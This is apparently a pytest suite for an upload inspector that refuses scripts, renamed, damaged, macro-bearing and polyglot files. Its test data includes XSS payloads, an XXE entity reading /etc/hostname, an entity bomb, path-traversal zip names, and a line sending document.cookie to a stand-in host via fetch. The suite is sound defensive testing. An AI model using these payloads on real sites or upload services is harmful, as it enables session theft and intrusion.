"""What is taken and what isn't, with real files and the sentence that a person reads."""

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from panel_app.foundation.files.bounds import Bounds
from panel_app.foundation.files.inspection import inspect
from panel_app.foundation.files.problems import Damaged, FileProblem, Unacceptable
from panel_app.foundation.files.registry import Facts
from tests.foundation.files import samples

HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
CODE = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg after xml": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": HTML,
    "html after spaces": b"\n\n \t" + HTML,
    "html after a mark": b"\xef\xbb\xbf" + HTML,
    "html after a comment": b"<!-- hello -->" + HTML,
    "html in capitals": HTML.upper(),
    "html in utf-16": HTML.decode().encode("utf-16"),
    "html after words": b"Dear reader,\n\n" + HTML,
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    "prefixed xhtml": b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "xml": b'<?xml version="1.0" encoding="UTF-8"?>\n<notes><note>hello</note></notes>',
    "xml without a head": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
    "mhtml": b"From: <Saved by a browser>\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/related;\n"
    b'\ttype="text/html"; boundary="b"\n\n--b\nContent-Type: text/html\n\n<p>hello</p>\n--b--\n',
    "short script": b"alert(document.domain)",
    "script": b"'use strict';\nconst a = document.cookie;\n// send it\nfetch('https://h.example/?' + a);\n",
    "module": b"import { a } from './a.js';\nexport default function go() {\n  return a(1);\n}\n",
    "called function": b"(function () {\n  window.location = 'https://h.example';\n})();\n",
    "node script": b"#!/usr/bin/env node\nconsole.log('hello')\n",
}
PROSE = {
    "words.txt": "I led the review, then wrote it up. It took (roughly) two weeks; a < b and b > c.\n",
    "list.txt": "1. Plan\n2. Do\n3. Check\n\nkey: value\n",
    "Überblick – план.txt": "Überblick: план работ, 資料, العربية\n",
    "notes.md": "# Notes\n\n- one\n- two\n\n<div align='center'>shown as text</div>\n",
    "code.md": "Our fix:\n\n```js\nconst a = document.cookie;\nalert(a);\n```\n\nand `<script>` was refused.\n",
    "table.md": "| a | b |\n|---|---|\n| 1 | 2 |\n",
}


def taken(folder: Path, name: str, content: bytes, bounds: Bounds | None = None) -> tuple[str, Facts]:
    path = folder / "upload"
    path.write_bytes(content)
    kind, facts = inspect(path, name, bounds or Bounds())
    return kind.name, facts


def refusal(folder: Path, name: str, content: bytes, bounds: Bounds | None = None) -> str:
    with pytest.raises(FileProblem) as caught:
        taken(folder, name, content, bounds)
    return str(caught.value.sentence)


@pytest.mark.parametrize("name", ["work.pdf", "work.png", "work.jpg", "work.txt", "work.md", "work.docx"])
@pytest.mark.parametrize("code", CODE)
def test_pages_drawings_and_scripts_are_refused_under_every_name(code: str, name: str, tmp_path: Path) -> None:
    with pytest.raises(Unacceptable) as caught:
        taken(tmp_path, name, CODE[code])

    assert any(word in str(caught.value) for word in ("code of a web page", "content is"))


@pytest.mark.parametrize("name", PROSE)
def test_prose_is_taken(name: str, tmp_path: Path) -> None:
    kind, facts = taken(tmp_path, name, PROSE[name].encode())

    assert (kind, facts) == ("markdown" if name.endswith(".md") else "text", Facts())


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.PDF", samples.pdf_with(pages=3), "pdf"),
        ("a.docx", samples.docx_with(), "docx"),
        ("a.png", samples.png_with(), "png"),
        ("a.JPeG", samples.jpeg_with_exif(), "jpeg"),
        ("a.b.jpg", samples.jpeg_with_exif(), "jpeg"),
    ],
)
def test_each_kind_is_taken_under_its_endings(name: str, content: bytes, kind: str, tmp_path: Path) -> None:
    assert taken(tmp_path, name, content)[0] == kind


def test_what_was_learnt_is_told(tmp_path: Path) -> None:
    pdf = samples.pdf_with(pages=3, comment="see here", attachment=("a.txt", b"a"))

    assert taken(tmp_path, "a.pdf", pdf)[1] == Facts(pages=3, left_behind=("comments", "attachments"))
    assert taken(tmp_path, "a.png", samples.png_with(size=(7, 5)))[1] == Facts(width=7, height=5)


@pytest.mark.parametrize("name", ["a", "a.exe", "a.doc", "pdf", "a.svg", "a.html", "a.pdf.zip", "", ".", "a."])
def test_other_endings_are_refused_with_a_list_of_ours(name: str, tmp_path: Path) -> None:
    assert refusal(tmp_path, name, b"hello") == (
        "This type of file isn't taken. Choose a file that ends in "
        ".docx, .jpeg, .jpg, .markdown, .md, .pdf, .png, .txt."
    )


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.png", "a.jpg", "a.txt", "a.md"])
def test_an_empty_file_is_refused(name: str, tmp_path: Path) -> None:
    assert refusal(tmp_path, name, b"").startswith("This file is empty.")


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.txt", b" \r\n\t\n"), ("a.docx", samples.docx_with([" "])), ("a.txt", b"\xef\xbb\xbf")],
)
def test_a_file_without_content_is_empty(name: str, content: bytes, tmp_path: Path) -> None:
    assert refusal(tmp_path, name, content).startswith("This file is empty.")


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("a.pdf", samples.png_with(), "PNG"),
        ("a.png", samples.jpeg_with_exif(), "JPEG"),
        ("a.docx", samples.pdf_with(), "PDF"),
        ("a.txt", samples.docx_with(), "DOCX"),
        ("a.txt", samples.pdf_with(), "PDF"),
        ("a.pdf", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "GIF"),
        ("a.pdf", b"hello there\n", "text"),
    ],
)
def test_a_renamed_file_is_refused_by_its_content(name: str, content: bytes, found: str, tmp_path: Path) -> None:
    ending = name.partition(".")[2]

    assert refusal(tmp_path, name, content).startswith(f"The name ends in .{ending}, but the content is {found}.")


@pytest.mark.parametrize("cut", [0.02, 0.3, 0.6, 0.9, 0.99])
@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.png", "a.jpg"])
def test_a_cut_file_is_refused(name: str, cut: float, tmp_path: Path) -> None:
    whole = {
        "a.pdf": samples.pdf_with(pages=5),
        "a.docx": samples.docx_with(),
        "a.png": samples.png_with(size=(400, 300)),
        "a.jpg": samples.jpeg_with_exif("someone", size=(400, 300)),
    }[name]
    part = whole[: int(len(whole) * cut)]

    sentence = refusal(tmp_path, name, part)

    assert "end of this file is missing" in sentence or "damaged" in sentence or "content is something else" in sentence


def test_a_broken_middle_is_refused(tmp_path: Path) -> None:
    pdf = bytearray(samples.pdf_with("word " * 400, pages=3))
    at = pdf.index(b"stream") + 20
    pdf[at : at + 200] = b"\xa5" * 200

    assert "damaged" in refusal(tmp_path, "a.pdf", bytes(pdf))


@pytest.mark.parametrize("password", ["secret", ""])
def test_a_locked_pdf_is_refused_also_when_it_opens_without_password(password: str, tmp_path: Path) -> None:
    assert refusal(tmp_path, "a.pdf", samples.pdf_with(password=password)).startswith("This PDF is protected")


def test_locked_and_old_word_documents_are_told_apart(tmp_path: Path) -> None:
    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    locked = container + "EncryptedPackage".encode("utf-16-le")

    assert refusal(tmp_path, "a.docx", locked).startswith("This document is protected with a password.")
    assert refusal(tmp_path, "a.docx", container).startswith("This is a document in an older Word format.")


def test_macros_are_refused(tmp_path: Path) -> None:
    plain = samples.docx_with()
    types = samples.part_of(plain, "[Content_Types].xml")
    enabled = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )

    by_part = samples.with_parts(plain, {"word/vbaProject.bin": b"\xd0\xcf"})
    by_type = samples.with_parts(plain, {"[Content_Types].xml": enabled})

    assert "holds macros" in refusal(tmp_path, "a.docx", by_part)
    assert "holds macros" in refusal(tmp_path, "a.docx", by_type)


def test_another_office_file_is_no_word_document(tmp_path: Path) -> None:
    plain = samples.docx_with()
    types = samples.part_of(plain, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"
    )

    assert "isn't a Word document" in refusal(
        tmp_path, "a.docx", samples.with_parts(plain, {"[Content_Types].xml": types})
    )


def test_a_plain_archive_is_no_word_document(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("hello.txt", "hello")

    assert "content is ZIP" in refusal(tmp_path, "a.docx", out.getvalue())


@pytest.mark.parametrize("entry", ["../up.xml", "/top.xml", "word\\x.xml", "WORD/DOCUMENT.XML"])
def test_a_package_with_crooked_names_is_damaged(entry: str, tmp_path: Path) -> None:
    assert "damaged" in refusal(tmp_path, "a.docx", samples.docx_with(parts={entry: b"<a/>"}))


def test_a_document_type_in_a_part_is_never_expanded(tmp_path: Path) -> None:
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'

    for part in ("word/document.xml", "word/styles.xml"):
        assert "damaged" in refusal(tmp_path, "a.docx", samples.docx_with(parts={part: laughs}))


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("a.txt", "a")
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("a.pdf", samples.pdf_with() + HTML, "HTML"),
        ("a.pdf", samples.pdf_with() + archive(), "ZIP"),
        ("a.pdf", samples.pdf_with().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), "HTML"),
        ("a.png", samples.png_with() + archive(), "ZIP"),
        ("a.png", samples.png_with() + HTML, "HTML"),
        ("a.png", samples.png_with(text={"Comment": "<script>alert(1)</script>"}), "HTML"),
        ("a.jpg", samples.jpeg_with_exif() + archive(), "ZIP"),
        ("a.jpg", samples.jpeg_with_exif() + HTML, "HTML"),
        ("a.jpg", samples.jpeg_with_exif(comment="<script>alert(1)</script>"), "HTML"),
        ("a.jpg", samples.jpeg_with_exif() + samples.pdf_with(), "PDF"),
        ("a.jpg", samples.jpeg_with_exif(comment="%PDF-1.4"), "PDF"),
    ],
)
def test_a_file_of_two_kinds_is_refused(name: str, content: bytes, found: str, tmp_path: Path) -> None:
    assert refusal(tmp_path, name, content).startswith(f"This file can also be read as {found}.")


@pytest.mark.parametrize("name", ["a.png", "a.pdf", "a.jpg", "a.txt", "a.md"])
def test_a_picture_or_document_that_starts_like_an_archive_is_refused(name: str, tmp_path: Path) -> None:
    for content in (archive(), archive() + samples.png_with(), archive() + samples.pdf_with()):
        assert "content is" in refusal(tmp_path, name, content)


def test_a_pdf_that_begins_later_is_refused(tmp_path: Path) -> None:
    assert "content is" in refusal(tmp_path, "a.pdf", b"hello\n" + samples.pdf_with())


@pytest.mark.parametrize(
    ("name", "content", "bounds", "words"),
    [
        ("a.png", samples.png_with(size=(300, 300)), Bounds(file_bytes=100), "larger than 100 bytes"),
        ("a.txt", b"hello " * 300, Bounds(text_bytes=1024), "larger than 1 KB"),
        ("a.pdf", samples.pdf_with(pages=4), Bounds(pages=3), "has 4 pages; 3 is the limit"),
        ("a.png", samples.png_with(size=(1500, 1000)), Bounds(pixels=1_000_000), "more than 1 million pixels"),
        ("a.jpg", samples.jpeg_with_exif(size=(1500, 1000)), Bounds(pixels=1_000_000), "more than 1 million pixels"),
        ("a.docx", samples.docx_with(), Bounds(unpacked_bytes=5000), "Unpacked, this file is larger than 4.9 KB"),
        ("a.docx", samples.docx_with(), Bounds(entries=3), "more than 3 parts"),
    ],
)
def test_a_limit_is_named(name: str, content: bytes, bounds: Bounds, words: str, tmp_path: Path) -> None:
    assert words in refusal(tmp_path, name, content, bounds)


def test_wrappers_and_self_drawing_forms_are_refused(tmp_path: Path) -> None:
    wrapper, form = pikepdf.Pdf.new(), pikepdf.Pdf.new()
    for document in (wrapper, form):
        document.add_blank_page()
    wrapper.Root.Collection = Dictionary(Type=Name.Collection)
    form.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form.make_stream(b"<xdp/>"))
    form.Root.NeedsRendering = True

    assert "wrapper around other files" in refusal(tmp_path, "a.pdf", samples.saved(wrapper))
    assert "draws itself" in refusal(tmp_path, "a.pdf", samples.saved(form))


def test_a_pdf_without_pages_is_empty(tmp_path: Path) -> None:
    assert refusal(tmp_path, "a.pdf", samples.saved(pikepdf.Pdf.new())).startswith("This file is empty.")


@pytest.mark.parametrize(
    "content", [b"hello\x00there", b"hello \x1b[31mred", b"\x07bell", b"text " + bytes([0x81, 0]) * 9]
)
def test_bytes_that_text_never_has_are_refused(content: bytes, tmp_path: Path) -> None:
    with pytest.raises(Unacceptable):
        taken(tmp_path, "a.txt", content)


def test_a_damaged_checksum_in_a_picture_is_damage(tmp_path: Path) -> None:
    png = bytearray(samples.png_with(size=(200, 200)))
    png[-20] ^= 0xFF

    with pytest.raises(Damaged):
        taken(tmp_path, "a.png", bytes(png))
